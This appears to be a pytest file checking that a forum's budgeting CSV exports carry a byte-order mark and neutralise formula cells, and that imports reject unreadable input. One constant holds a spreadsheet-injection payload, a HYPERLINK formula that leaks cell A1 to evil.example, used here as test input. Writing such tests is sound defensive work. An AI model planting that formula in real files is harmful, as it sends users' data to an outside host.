"""CSV exports open safely in a spreadsheet: a byte-order mark so Cyrillic reads right, and no
cell a spreadsheet would run as a formula; CSV imports refuse what they cannot read."""

from __future__ import annotations

import csv
import io

import pytest

from forum.budgeting.models import Item
from forum.core.csvfiles import CsvUnreadable, csv_text, read_rows
from forum.extensions import db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def test_results_csv_has_a_bom_and_no_formula(app, world):
    with app.app_context():
        item = db.session.get(Item, world.ids["winner"])
        item.title = FORMULA
        db.session.commit()
        other = db.session.query(Item).filter(Item.cycle_id == world.ids["closed_cycle"],
                                              Item.id != item.id).one()
        other.title = "Игралиште"
        db.session.commit()
    url = f"/en/forums/{world.forum_slug}/budgeting/{world.ids['closed_cycle']}/results.csv"
    response = app.test_client().get(url)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    body = response.data
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    titles = {row[0]: row[1] for row in rows[1:]}
    assert titles[str(world.ids["winner"])] == "'" + FORMULA
    assert "Игралиште" in titles.values()


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"])
def test_every_formula_start_is_neutralised_and_numbers_stay_numbers(cell):
    text = csv_text(["a", "b"], [[cell, -5]])
    [row] = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))[1:]
    assert row == ["'" + cell, "-5"]


def test_reading_cleans_cells_and_refuses_a_giant_field_with_its_line():
    assert list(read_rows("a\x00b,c\u202e\n")) == [["ab", "c"]]
    with pytest.raises(CsvUnreadable, match="Line 2"):
        list(read_rows("ok\n" + "x" * 200_000 + "\n"))


def test_a_file_saved_with_semicolons_by_a_spreadsheet_is_read_so():
    assert list(read_rows("ballot;items\nS1;22;25\n")) == [["ballot", "items"],
                                                          ["S1", "22", "25"]]
    assert list(read_rows('name,note\n"Arta","a;b;c"\n')) == [["name", "note"],
                                                             ["Arta", "a;b;c"]]
